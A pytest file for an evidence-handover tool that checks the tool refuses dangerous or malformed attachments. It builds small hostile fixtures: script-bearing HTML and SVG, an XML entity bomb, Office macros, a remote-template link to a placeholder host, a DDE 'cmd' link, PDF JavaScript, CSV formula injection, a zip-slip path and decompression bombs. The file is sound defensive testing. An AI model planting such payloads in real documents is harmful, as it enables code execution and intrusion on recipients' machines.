"""E01 to E25: files that are missing, others, too large, dangerous, or only unusual.

Dangerous ones are refused by what they hold. What people may have reason to hand over ships byte by
byte as it is, and closed; what it carries is told by the scan (tests/evidence_scan).
"""

import resource
import subprocess
import zipfile
from dataclasses import dataclass
from hashlib import sha256
from pathlib import Path

import pytest
from bs4 import BeautifulSoup

from certfolio.handover.archive import write_archive
from certfolio.handover.check_copies import check_copies
from certfolio.handover.manifest import NAME, manifest_text
from certfolio.handover.package import Layout, gathered, seal
from certfolio.handover.verify import verify_zip
from certfolio.intake.attachment import Fingerprint, fingerprint
from certfolio.model.problem import Problem, exit_code
from certfolio.pipeline import check
from evidence_scan import evidence_samples as made
from faults.killing import Moment, killed
from faults.mini import built, packaged, workspace_of, write_evidence, write_mini

MACROS = {"[Content_Types].xml": "", "xl/workbook.xml": "<x/>", "xl/vbaProject.bin": "x"}
MAIL = b"From: a@x.example\nSubject: x\n\n<img src='https://t.example/p.gif'>\n"
HTML = b"<!doctype html><script>alert(1)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
BOMB = b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>'
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REMOTE = {
    "[Content_Types].xml": "<Types/>",
    "word/document.xml": "<w:document/>",
    "word/_rels/settings.xml.rels": (
        f'<Relationships><Relationship Id="r1" Type="{RELATION}/attachedTemplate"'
        ' Target="https://t.example/x.dotm" TargetMode="External"/></Relationships>'
    ),
}
EXTERNAL = {
    "[Content_Types].xml": "<Types/>",
    "xl/workbook.xml": "<workbook/>",
    "xl/externalLinks/externalLink1.xml": (
        '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c x"/></externalLink>'
    ),
}
MARKUP = "can run scripts in the reader's browser"


@dataclass(frozen=True, slots=True)
class Case:
    """A file in a record and what its author is told; without words it ships as it is."""

    id: str
    name: str
    data: bytes
    found: str = ""


CASES = (
    Case("E05 empty", "e05.txt", b"", '"e05.txt" is empty'),
    Case("E09 HTML", "e09.html", HTML, MARKUP),
    Case("E09 XHTML", "e09.xhtml", HTML, MARKUP),
    Case("E09 XML", "e09.xml", b"<?xml version='1.0'?><x/>", MARKUP),
    Case("E09 SVG", "e09.svg", SVG, MARKUP),
    Case("E10 foreign object", "e10.svg", SVG.replace(b"/>", b"><foreignObject/></svg>"), MARKUP),
    Case("E10 entities", "e10.xml", BOMB, MARKUP),
    Case("E11 macros", "e11.xlsm", made.zipped(MACROS), "is a kind of file that can hold macros"),
    Case("E11 hidden macros", "e11.xlsx", made.zipped(MACROS), '"e11.xlsx" holds macros'),
    Case(
        "E11 Excel 4",
        "e11-4.xlsx",
        made.zipped({**MACROS, "xl/macrosheets/sheet1.xml": ""}),
        "macros",
    ),
    Case("E12 remote template", "e12.docx", made.zipped(REMOTE)),
    Case("E12 external links", "e12.xlsx", made.zipped(EXTERNAL)),
    Case("E13 actions", "e13.pdf", made.pdf("<< /OpenAction << /S /JavaScript /JS (x) >> >>")),
    Case("E14 encrypted Office file", "e14.docx", made.encrypted_office()),
    Case("E14 encrypted zip", "e14.zip", made.encrypted_zip()),
    Case("E15 page as PDF", "report.pdf", HTML, '"report.pdf" is a web page or other markup'),
    Case("E15 polyglot", "e15.pdf", b"%PDF-1.4\n" + made.zipped({"a.class": "x"}), "is also a zip"),
    *(
        Case(f"E16 {suffix}", f"e16.{suffix}", b"MZ\x90\0", f'"e16.{suffix}" ')
        for suffix in (
            *("exe", "lnk", "url", "scr", "iso", "hta", "js", "jar", "mht", "chm"),
            *("library-ms", "bat", "cmd", "ps1", "vbs", "msi", "dll", "com", "wsf", "img"),
        )
    ),
    Case(
        "E17 slip and nested", "e17.zip", made.zipped({"../../evil": "x", "a.zip": made.zipped({})})
    ),
    Case("E17 bomb", "e17-2.zip", made.bomb()),
    Case("E18 position", "e18.jpg", made.jpeg()),
    Case("E19 hidden", "e19.xlsx", made.xlsx('<sheet name="x" state="hidden"/>')),
    Case("E20 mail", "e20.eml", MAIL),
    Case("E21 formulas", "e21.csv", b"a;b\n=cmd|'/c calc'!A1;2\n"),
    Case("E21 a million rows", "e21-2.csv", b"a,b\n" * 1_000_000),
    Case("E22 bomb", "e22.png", made.png()[:16] + b"\0\0\xff\xff" * 2 + made.png()[24:]),
    Case("E22 cut off", "e22-2.png", made.png()[:40]),
    Case("E23 UTF-16", "e23.txt", "Prüfung\r\n".encode("utf-16")),
    Case("E23 Latin-1", "e23-2.txt", "Prüfung\r".encode("latin-1")),
    Case("E23 escapes", "e23-3.log", b"\x1b[31mred\x1b[0m\x1b]0;title\x07\n"),
    Case("E24 key", "e24.txt", b"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1r\n"),
    Case("E25 twin", "e25.txt", b"Twice.\n"),
    Case("E25 twin again", "e25-2.txt", b"Twice.\n"),
)


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    project = write_mini(tmp_path_factory.mktemp("contents") / "work")
    for number, case in enumerate(CASES):
        (project / "content" / "files" / case.name).write_bytes(case.data)
        write_evidence(project, case.name, id=f"E-{100 + number}")
    return project


@pytest.fixture(scope="module")
def problems(project: Path) -> tuple[Problem, ...]:
    return check(workspace_of(project), 1).problems


@pytest.mark.parametrize(
    ("number", "case"), list(enumerate(CASES)), ids=[case.id for case in CASES]
)
def test_a_file_is_refused_by_what_it_holds_or_taken_as_it_is(
    number: int, case: Case, problems: tuple[Problem, ...]
) -> None:
    record = f"content/evidence/E-{100 + number}.json"
    told = [problem for problem in problems if problem.location.path == record]
    assert exit_code(told).value == (4 if case.found else 0), told
    assert len(told) == bool(case.found)
    assert all(case.found in problem.found for problem in told), told


def test_e12_e25_what_is_taken_ships_byte_by_byte_and_nothing_of_it_is_unpacked(
    mini: Path, tmp_path: Path
) -> None:
    """In the portal and in the package, and its record shows nothing of it but a safe view."""
    taken = [case for case in CASES if not case.found]
    for number, case in enumerate(taken):
        (mini / "content" / "files" / case.name).write_bytes(case.data)
        write_evidence(mini, case.name, id=f"E-{100 + number}")
    portal = mini / "output" / "internal"
    built(mini, portal, say=lambda _stage: None)
    sealed = packaged(mini, tmp_path / "packages", say=lambda _stage: None)
    assert verify_zip(sealed.place).faults == ()
    with zipfile.ZipFile(sealed.place) as archive:
        for number, case in enumerate(taken):
            (path,) = (portal / "files").glob(f"e-{100 + number}-1-*")
            assert path.read_bytes() == case.data, case.id
            assert archive.read(f"portal/files/{path.name}") == case.data, case.id
            page = BeautifulSoup(
                (portal / f"e-{100 + number}.html").read_text("utf-8"), "html.parser"
            )
            shown = {
                tag.get("src") or tag.get("data")
                for tag in page.find_all(["img", "object", "iframe"])
            }
            assert all(not str(address).startswith(("http", "//")) for address in shown), case.id
            assert sha256(case.data).hexdigest() in page.get_text().replace(" ", "").replace(
                "\n", ""
            ), case.id
    assert len(list((portal / "files").iterdir())) == len(taken) + 1


def test_e01_a_missing_file_names_its_record_and_place(mini: Path) -> None:
    write_evidence(mini, "prof.txt")
    (problem, orphan) = check(workspace_of(mini), 1).problems
    assert (exit_code([problem]).value, problem.location.pointer) == (4, "/files/0/path")
    assert problem.found == '"prof.txt" is not there'
    assert problem.fix == 'did you mean "proof.txt"?'
    assert orphan.is_notice


def test_e02_a_file_with_another_digest_stops_a_build_too(mini: Path) -> None:
    entry = [{"path": "proof.txt", "sha256": "0" * 64}]
    from certfolio.pipeline import FilesChanged
    from workspaces import write_record

    write_record(
        mini,
        "evidence",
        "E-001",
        status="collected",
        clauses=[{"clause": "mini-1:1", "why": "It shows it."}],
        files=entry,
    )
    with pytest.raises(FilesChanged) as refused:
        built(mini, mini / "output" / "internal", say=lambda _stage: None)
    (problem,) = refused.value.problems
    assert exit_code([problem]).value == 4
    assert problem.found == '"proof.txt" is not the file that was recorded'
    assert not (mini / "output" / "internal").exists()


@pytest.mark.parametrize(
    ("size", "id"), [(5 << 30, "E06"), (1 << 40, "E07")], ids=["E06 5 GB", "E07 sparse 1 TB"]
)
def test_a_file_that_is_far_too_large_is_refused_without_reading_it(
    mini: Path, size: int, id: str
) -> None:
    with (mini / "content" / "files" / "large.txt").open("wb") as stream:
        stream.truncate(size)
    write_evidence(mini, "large.txt", id="E-100")
    told = [problem for problem in check(workspace_of(mini), 1).problems if not problem.is_notice]
    assert exit_code(told).value == 4
    assert all(problem.expected == "at most 200.0 MB for one file" for problem in told)


def test_e06_a_large_file_is_sealed_with_zip64_and_every_reader_agrees(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The limit of 2 GB is moved to 1,000 bytes; what is written is the same."""
    monkeypatch.setattr(zipfile, "ZIP64_LIMIT", 1000)
    large = tmp_path / "large.txt"
    large.write_bytes(b"0123456789" * 1000)
    digest = sha256(large.read_bytes()).hexdigest()
    (tmp_path / NAME).write_text(manifest_text({"portal/large.txt": digest}))
    made_zip = tmp_path / "a.zip"
    write_archive({"portal/large.txt": large, NAME: tmp_path / NAME}, made_zip)
    assert b"\x01\x00\x10\x00" in made_zip.read_bytes()
    assert verify_zip(made_zip).faults == ()
    subprocess.run(["unzip", "-tq", str(made_zip)], check=True, stdout=subprocess.DEVNULL)


def test_e08_more_than_a_portal_may_hold_is_refused_with_the_ten_biggest(mini: Path) -> None:
    """Eleven sparse files, none of them read."""
    names = [f"large-{number:02}.txt" for number in range(11)]
    for number, name in enumerate(names):
        with (mini / "content" / "files" / name).open("wb") as stream:
            stream.write(b"x" * 70_000)
            stream.truncate(190_000_000 + number)
    write_evidence(mini, *names, id="E-100")
    told = [
        problem
        for problem in check(workspace_of(mini), 1, has_digests=False).problems
        if problem.location.path == "content/files"
    ]
    assert exit_code(told).value == 4
    assert "all files together have 2090.1 MB" in told[0].found
    assert [name for name in names if name in told[0].found] == names[1:]


@pytest.mark.filterwarnings("ignore:.*multi-threaded:DeprecationWarning")
def test_e06_copying_sealing_and_verifying_take_no_more_memory_for_a_large_file(
    tmp_path: Path,
) -> None:
    """A file of 190 MB, and no more than 60 MB of memory beyond what is taken already."""
    files = tmp_path / "files"
    files.mkdir()
    with (files / "large.pdf").open("wb") as stream:
        stream.write(b"%PDF-1.7\n")
        stream.truncate(190_000_000)
    portal, scratch = tmp_path / "portal", tmp_path / "scratch"
    for folder in (portal, scratch):
        folder.mkdir()

    def work() -> None:
        taken = int(Path("/proc/self/statm").read_text().split()[0]) * resource.getpagesize()
        resource.setrlimit(resource.RLIMIT_AS, (taken + 60_000_000, taken + 60_000_000))
        copied = fingerprint(files, "large.pdf", portal / "large.pdf")
        assert isinstance(copied, Fingerprint)
        check_copies(portal, {"large.pdf": copied.sha256})
        sealed = seal(gathered(portal, {}, Layout.PLAIN, scratch), tmp_path / "a.zip")
        assert sealed.octets == 190_000_000

    assert not killed(work, Moment())
    assert (tmp_path / "a.zip").stat().st_size > 190_000_000
